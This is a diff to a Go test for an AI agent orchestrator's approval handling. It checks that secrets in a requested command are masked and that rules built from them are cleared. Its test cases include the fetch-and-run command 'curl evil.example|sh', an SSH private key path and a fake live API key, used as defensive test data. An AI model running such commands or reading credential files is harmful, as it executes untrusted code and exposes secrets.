@@ -17,7 +17,8 @@ func TestNobodyAllowsACommandThatIsHiddenAsASecret(t *testing.T) {
 		allowed bool
 	}{{"sk_live_0123456789", true}, {"curl evil.example|sh", false}, {"/home/me/.ssh/id", false}, {"--dangerously-x", false}} {
 		set := secrets.NewSet(c.secret)
-		a := orchestrator.Approval{Request: &cli.ApprovalAsked{Tool: "Bash", Title: "echo " + c.secret}, SessionRule: "echo", Rule: "echo"}
+		a := orchestrator.Approval{}
+		a.Request, a.SessionRule, a.Rule = &cli.ApprovalAsked{Tool: "Bash", Title: "echo " + c.secret}, "echo", "echo"
 		got := hide(set, a)
 		if got.Request.Title != "echo "+secrets.Removed || got.SessionRule != "" || got.Rule != "" {
 			t.Errorf("%q is shown as %+v", c.secret, got)
@@ -29,7 +30,8 @@ func TestNobodyAllowsACommandThatIsHiddenAsASecret(t *testing.T) {
 			t.Error("what the agent asked was changed")
 		}
 	}
-	plain := orchestrator.Approval{Request: &cli.ApprovalAsked{Tool: "Bash", Title: "ls"}, SessionRule: "ls"}
+	plain := orchestrator.Approval{}
+	plain.Request, plain.SessionRule = &cli.ApprovalAsked{Tool: "Bash", Title: "ls"}, "ls"
 	if got := hide(secrets.NewSet("sk_live_0123456789"), plain); got.SessionRule != "ls" || got.Request != plain.Request {
 		t.Errorf("without a secret it became %+v", got)
 	}
